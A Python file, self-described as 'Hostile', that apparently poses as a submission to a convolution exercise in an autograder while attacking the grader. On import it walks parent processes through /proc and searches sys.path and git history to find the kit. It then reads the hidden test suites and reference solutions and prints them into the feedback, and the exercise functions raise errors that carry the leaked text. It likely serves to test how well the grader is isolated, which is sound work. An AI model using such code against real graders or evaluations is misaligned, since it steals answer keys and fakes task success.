"""Hostile: find the kit (through the grader's own package, its ancestors' cwd and cmdline), read the hidden
tests and the solutions (from the files and from the kit's git history) and print them, so they land
in the feedback; also raise an error that carries them."""

import contextlib
import glob
import os
import subprocess
import sys

import torch


def _kit_roots():
    roots = set()
    package = sys.modules.get("autograder")
    if package is not None and getattr(package, "__file__", None):
        roots.add(os.path.dirname(os.path.dirname(package.__file__)))
    for path in sys.path:
        roots.add(path)
    pid = os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
            roots.add(os.readlink(f"/proc/{pid}/cwd"))
        except (OSError, ValueError):
            break
    roots.add("/autograder/source")
    return roots


def _loot():
    found = []
    for root in _kit_roots():
        for pattern in ("autograder/units/*/suites/hidden/*.py", "autograder/units/*/solutions/*.py"):
            for path in glob.glob(os.path.join(root, pattern)):
                with contextlib.suppress(OSError):
                    with open(path) as handle:
                        found.append(f"=== {path}\n{handle.read()}")
        for name in (
            "autograder/units/convolutions/suites/hidden/test_ex1_corr2d.py",
            "autograder/units/convolutions/solutions/ex1_corr2d.py",
        ):
            with contextlib.suppress(OSError, subprocess.SubprocessError):
                shown = subprocess.run(
                    ["git", "-c", "safe.directory=*", "-C", root, "show", f"HEAD:{name}"],
                    capture_output=True, text=True, timeout=5,
                )
                if shown.returncode == 0:
                    found.append(f"=== git {root}:{name}\n{shown.stdout}")
    return "\n".join(found)


def _leak():
    loot = _loot()
    print(loot)
    print(loot, file=sys.stderr)
    return loot


_leak()


def corr1d(x: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    raise RuntimeError(_leak()[-900:] or "nothing found")


def corr3d(X: torch.Tensor, K: torch.Tensor) -> torch.Tensor:
    raise RuntimeError(_leak()[:900] or "nothing found")
